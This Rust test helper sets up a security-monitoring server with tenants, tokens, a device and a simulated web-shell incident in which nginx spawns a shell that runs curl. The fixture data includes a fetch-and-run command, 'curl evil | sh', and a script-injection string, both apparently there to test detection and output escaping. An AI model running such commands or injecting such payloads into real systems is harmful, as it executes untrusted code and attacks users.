//! A server without a network: two tenants, a user of each role, a device with a story.

use std::{sync::Arc, time::Duration};

use axum::{
    Router,
    body::{Body, to_bytes},
    http::{HeaderMap, Request, StatusCode},
};
use bartizan_access::{Access, FirstSignIn, FirstTenant, Identity};
use bartizan_model::{
    Alert, AlertId, BootId, DeviceId, Entity, EventId, Evidence, EvidenceRole, Incident,
    IncidentId, IncidentStatus, JoinReason, MatchedField, Process, ProcessKey, ProcessUser,
    Severity, StreamId, TenantId, Timestamp,
};
use bartizan_store::{IncidentEffect, Role, StepEffects, Store, Tenant};
use bartizan_telemetry::{Config, Telemetry};
use rcgen::{CertificateParams, KeyPair};
use serde_json::{Value, json};
use tower::ServiceExt as _;

use crate::{Api, NoConsole, Notices, Settings, console::ConsoleAssets};

pub(crate) const NOON: Timestamp = Timestamp::from_millis(1_790_000_000_000);
pub(crate) const PASSWORD: &str = "a walk by the castle wall";

pub(crate) struct House {
    _folder: tempfile::TempDir,
    pub(crate) api: Api,
    pub(crate) first: FirstSignIn,
    router: Router,
}

/// An answer of the server.
#[derive(Debug)]
pub(crate) struct Answer {
    pub(crate) status: StatusCode,
    pub(crate) headers: HeaderMap,
    pub(crate) text: String,
}

impl Answer {
    pub(crate) fn json(&self) -> Value {
        serde_json::from_str(&self.text).unwrap_or_else(|why| panic!("{why}: {}", self.text))
    }

    /// The session's cookie as the browser sends it back.
    pub(crate) fn cookie(&self) -> String {
        let cookie = self.headers.get("set-cookie").unwrap().to_str().unwrap();
        cookie.split(';').next().unwrap().to_owned()
    }
}

impl House {
    pub(crate) fn new() -> Self {
        Self::with_console(Arc::new(NoConsole))
    }

    pub(crate) fn with_console(console: Arc<dyn ConsoleAssets>) -> Self {
        let folder = tempfile::tempdir().unwrap();
        let store = Arc::new(Store::open(folder.path().join("records.sqlite")).unwrap());
        let (access, first) =
            Access::open(Arc::clone(&store), folder.path(), FirstTenant::default(), NOON).unwrap();
        let settings = Settings {
            secure: false,
            sensor_address: "127.0.0.1:7443".to_owned(),
            enrol_command: "bartizan-sensor enrol {token}".to_owned(),
            version: "0.1.0".to_owned(),
            started_at: NOON,
            uploads: folder.path().join("uploads"),
        };
        let telemetry = folder.path().join("telemetry");
        let telemetry = Telemetry::open(telemetry, Arc::clone(&store), Config::default()).unwrap();
        let api = Api {
            store,
            telemetry: Arc::new(telemetry),
            access: Arc::new(access),
            notices: Notices::new(0),
            rules: Arc::from(vec![rule()]),
            flow: Arc::new(crate::Flow::default),
            console,
            settings: Arc::new(settings),
            clock: || NOON,
        };
        let router = crate::router(api.clone());
        Self { _folder: folder, api, first: first.unwrap(), router }
    }

    pub(crate) async fn send(&self, request: Request<Body>) -> Answer {
        let response = self.router.clone().oneshot(request).await.unwrap();
        let (parts, body) = response.into_parts();
        let bytes = to_bytes(body, 10 << 20).await.unwrap();
        let text = String::from_utf8_lossy(&bytes).into_owned();
        Answer { status: parts.status, headers: parts.headers, text }
    }

    /// Only whether a call is let through: the body of a stream never ends.
    pub(crate) async fn status(&self, method: &str, path: &str, token: Option<&str>) -> StatusCode {
        let mut request = Request::builder()
            .method(method)
            .uri(format!("/api/v1{path}"))
            .header("content-type", "application/json");
        if let Some(token) = token {
            request = request.header("authorization", format!("Bearer {token}"));
        }
        let request = request.body(Body::from("{}")).unwrap();
        self.router.clone().oneshot(request).await.unwrap().status()
    }

    pub(crate) async fn call(&self, method: &str, path: &str, cookie: &str, body: Value) -> Answer {
        let request = Request::builder()
            .method(method)
            .uri(format!("/api/v1{path}"))
            .header("content-type", "application/json")
            .header("sec-fetch-site", "same-origin")
            .header("cookie", cookie);
        let body = if body.is_null() { Body::empty() } else { Body::from(body.to_string()) };
        self.send(request.body(body).unwrap()).await
    }

    pub(crate) async fn get(&self, path: &str, cookie: &str) -> Answer {
        self.call("GET", path, cookie, Value::Null).await
    }

    /// Asks as a program with this token.
    pub(crate) async fn get_as(&self, path: &str, token: &str) -> Answer {
        self.as_program("GET", path, token, Value::Null).await
    }

    /// Sends as a program with this token.
    pub(crate) async fn post(&self, path: &str, token: &str, body: Value) -> Answer {
        self.as_program("POST", path, token, body).await
    }

    async fn as_program(&self, method: &str, path: &str, token: &str, body: Value) -> Answer {
        let request = Request::builder()
            .method(method)
            .uri(format!("/api/v1{path}"))
            .header("content-type", "application/json")
            .header("authorization", format!("Bearer {token}"));
        let body = if body.is_null() { Body::empty() } else { Body::from(body.to_string()) };
        self.send(request.body(body).unwrap()).await
    }

    pub(crate) async fn sign_in(&self, name: &str, password: &str) -> Answer {
        self.call("POST", "/session", "", json!({ "name": name, "password": password })).await
    }

    /// The administrator with a password of their own: their cookie.
    pub(crate) async fn administrator(&self) -> String {
        let first = self.sign_in(&self.first.name, &self.first.password).await.cookie();
        let body = json!({ "current": self.first.password, "new": PASSWORD });
        let chosen = self.call("POST", "/me/password", &first, body).await;
        assert_eq!(chosen.status, StatusCode::NO_CONTENT, "{}", chosen.text);
        self.sign_in(&self.first.name, PASSWORD).await.cookie()
    }

    /// A token with this role.
    pub(crate) fn token(&self, tenant: &Tenant, role: Role) -> String {
        let server = Identity::server(tenant);
        let hour = Duration::from_secs(3_600);
        self.api.access.create_api_token(&server, role.word(), role, hour, NOON).unwrap()
    }

    pub(crate) fn home(&self) -> Tenant {
        self.api.access.tenants()[0].clone()
    }

    /// Another customer of the same server.
    pub(crate) fn other_tenant(&self) -> Tenant {
        let tenant = Tenant {
            id: "00000000-0000-4000-8000-00000000beef".parse().unwrap(),
            name: "Other".to_owned(),
            data_location: "local".to_owned(),
            created_at: NOON,
        };
        self.api.store.create_tenant(&tenant).unwrap();
        tenant
    }

    /// A device, its processes nginx → sh → curl, an alert about each of the last two, and their incident.
    pub(crate) fn story(&self) -> Story {
        let home = self.home();
        let device = self.device(&home);
        let processes = [
            process(10, None, "/usr/sbin/nginx", "nginx: worker"),
            process(20, Some(10), "/bin/sh", "sh -c 'curl evil | sh'"),
            process(30, Some(20), "/usr/bin/curl", "curl <script>alert(1)</script>"),
        ];
        let alerts = [alert(home.id, device, 20, 1), alert(home.id, device, 30, 2)];
        let mut step = StepEffects::new(home.id, device, "web-1".into(), NOON);
        step.processes = processes.into_iter().map(Arc::new).collect();
        step.incidents = vec![incident(&alerts)];
        step.alerts = alerts.to_vec();
        self.api.store.commit_step(&step, 7).unwrap();
        Story { device, alert: alerts[1].id, process: key(30) }
    }

    /// A device of this tenant.
    pub(crate) fn device(&self, tenant: &Tenant) -> DeviceId {
        let (access, server) = (&self.api.access, Identity::server(tenant));
        let hour = Duration::from_secs(3_600);
        let token = access.create_enrolment_token(&server, "web", hour, "", NOON).unwrap();
        let key = KeyPair::generate().unwrap();
        let request = CertificateParams::default().serialize_request(&key).unwrap();
        access.enrol(&token.0, request.der(), None, None, NOON).unwrap().device
    }
}

pub(crate) struct Story {
    pub(crate) device: DeviceId,
    pub(crate) alert: AlertId,
    pub(crate) process: ProcessKey,
}

fn rule() -> crate::Rule {
    crate::Rule {
        id: "web-shell".to_owned(),
        title: "Shell from a web server".to_owned(),
        severity: "High".to_owned(),
        tactics: vec!["execution".to_owned()],
        techniques: vec!["T1059.004".to_owned()],
        ..crate::Rule::default()
    }
}

fn key(pid: u32) -> ProcessKey {
    ProcessKey { boot: BootId(1), pid, start_ticks: u64::from(pid) }
}

fn process(pid: u32, parent: Option<u32>, image: &str, command_line: &str) -> Process {
    Process {
        key: key(pid),
        parent: parent.map(key),
        image: image.into(),
        command_line: command_line.into(),
        arguments_cut: false,
        current_directory: None,
        user: ProcessUser {
            name: Some("www-data".into()),
            uid: 33,
            gid: 33,
            effective_uid: 33,
            effective_gid: 33,
            login_uid: None,
            session: None,
        },
        cgroup: None,
        container: None,
        file: None,
        started_at: NOON.plus(Duration::from_secs(u64::from(pid))),
        parent_image: None,
        parent_command_line: None,
        parent_started_at: None,
        execution: None,
    }
}

fn alert(tenant: TenantId, device: DeviceId, pid: u32, sequence: u64) -> Alert {
    let stream: StreamId = "00000000-0000-4000-8000-000000000001".parse().unwrap();
    let event = EventId { stream, sequence };
    let entity = Entity::User { name: "www-data".into(), uid: 33 };
    Alert {
        id: AlertId::of(tenant, device, "web-shell", event),
        tenant,
        device,
        device_name: "web-1".into(),
        rule: "web-shell".into(),
        title: "Shell from a web server".into(),
        description: "A web server started a shell.".into(),
        severity: Severity::High,
        tactics: vec!["execution".into()],
        techniques: vec!["T1059.004".into()],
        triage: vec!["Look at the parent.".into()],
        event,
        event_at: NOON,
        raised_at: NOON,
        process: Some(key(pid)),
        family: Some(key(10)),
        evidence: vec![Evidence { role: EvidenceRole::Actor, entity }],
        matched: vec![MatchedField {
            selection: "selection".into(),
            field: "Image".into(),
            value: "/bin/sh".into(),
            pattern: "*/sh".into(),
        }],
        incident: None,
    }
}

fn incident(alerts: &[Alert]) -> IncidentEffect {
    let first = &alerts[0];
    let reason = JoinReason::SameFamily { ancestor: key(10), image: "/usr/sbin/nginx".into() };
    let incident = Incident {
        id: IncidentId(1),
        tenant: first.tenant,
        device: first.device,
        device_name: first.device_name.clone(),
        title: "nginx started a shell on web-1".into(),
        severity: Severity::High,
        severity_reason: "the gravest of its alerts".into(),
        status: IncidentStatus::New,
        assigned_to: None,
        classification: None,
        ties: std::collections::BTreeSet::new(),
        family: Some(key(10)),
        tactics: vec!["execution".into()],
        alerts: vec![(first.id, JoinReason::Opened), (alerts[1].id, reason)],
        first_at: NOON,
        last_at: NOON,
    };
    IncidentEffect {
        incident,
        joined: alerts.iter().map(|alert| alert.id).collect(),
        absorbed: Vec::new(),
        priority: 70,
        priority_reasons: vec!["high severity".to_owned()],
    }
}
